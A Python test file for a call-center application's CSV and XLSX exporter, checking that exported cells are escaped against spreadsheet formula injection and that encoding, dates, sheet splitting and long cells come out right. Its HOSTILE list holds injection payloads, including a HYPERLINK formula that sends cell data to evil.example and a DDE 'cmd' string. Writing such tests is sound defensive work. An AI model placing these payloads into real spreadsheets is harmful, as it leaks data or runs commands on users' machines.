"""Files that people open in a spreadsheet: nothing in them runs, nothing in them is lost."""

import csv
import io
from datetime import UTC, date, datetime
from pathlib import Path

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from callcenter.services.tables import write_table
from callcenter.services.tables.write_table import Cell, harmless, open_writer

HOSTILE = [
    "=1+1",
    '=HYPERLINK("http://evil.example?"&A1;"Ваш талон")',
    "+79161234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1;1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "＝1+1",
    "\x00=1+1",
]
NOON = datetime(2026, 11, 22, 12, 30, 5, tzinfo=UTC)


def written(folder: Path, kind: str, rows: list[list[Cell]]) -> Path:
    path = folder / f"table.{kind}"
    writer = open_writer(path, kind)
    writer.begin("Журнал", ["Имя", "Когда"])
    writer.add(rows)
    writer.close()
    return path


def read_back(path: Path) -> list[list[object]]:
    if path.suffix == ".csv":
        text = path.read_bytes().decode("utf-8-sig")
        return [list(row) for row in csv.reader(io.StringIO(text, newline=""), delimiter=";")]
    sheet = openpyxl.load_workbook(path).worksheets[0]
    return [list(row) for row in sheet.iter_rows(values_only=True)]


@pytest.mark.covers("003-27")
@pytest.mark.parametrize("kind", ["csv", "xlsx"])
def test_no_name_becomes_a_formula(tmp_path: Path, kind: str) -> None:
    path = written(tmp_path, kind, [[name, None] for name in HOSTILE])

    cells = [str(row[0]) for row in read_back(path)[1:]]

    assert len(cells) == len(HOSTILE)
    assert all(cell.startswith("'") for cell in cells)
    if kind == "xlsx":
        sheet = openpyxl.load_workbook(path).worksheets[0]
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}


@given(st.text(max_size=40))
def test_what_is_harmless_stays_as_it_is_and_nothing_starts_a_formula(text: str) -> None:
    cell = harmless(text)

    assert not cell.lstrip(" ").startswith(write_table.FORMULA_STARTS)
    if text.isprintable() and not text.lstrip(" ").startswith(write_table.FORMULA_STARTS):
        assert cell == text


def test_a_csv_opens_in_excel_with_a_double_click(tmp_path: Path) -> None:
    path = written(tmp_path, "csv", [["Иванова; Мария\nул. Мира", NOON], [12.5, date(2026, 1, 2)]])

    content = path.read_bytes()

    assert content.startswith(b"\xef\xbb\xbf")
    assert read_back(path) == [
        ["Имя", "Когда"],
        ["Иванова; Мария\nул. Мира", "2026-11-22 12:30:05"],
        ["12,5", "2026-01-02"],
    ]


def test_a_sheet_knows_moments_and_numbers(tmp_path: Path) -> None:
    path = written(tmp_path, "xlsx", [["Иванова", NOON], [12.5, date(2026, 1, 2)], [7, None]])

    assert read_back(path) == [
        ["Имя", "Когда"],
        ["Иванова", datetime(2026, 11, 22, 12, 30, 5)],  # noqa: DTZ001 - a sheet knows no zones
        [12.5, datetime(2026, 1, 2)],  # noqa: DTZ001 - the same
        [7, None],
    ]


def test_a_table_longer_than_a_sheet_goes_on_in_the_next(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(write_table, "MOST_ROWS", 10)

    path = written(tmp_path, "xlsx", [[number, None] for number in range(25)])

    book = openpyxl.load_workbook(path)
    assert book.sheetnames == ["Журнал", "Журнал 2", "Журнал 3"]
    numbers = [row[0] for sheet in book for row in sheet.iter_rows(min_row=2, values_only=True)]
    assert numbers == list(range(25))


def test_a_cell_longer_than_a_cell_may_be_is_cut(tmp_path: Path) -> None:
    path = written(tmp_path, "xlsx", [["я" * 100_000, None]])

    assert len(str(read_back(path)[1][0])) == write_table.LONGEST_CELL
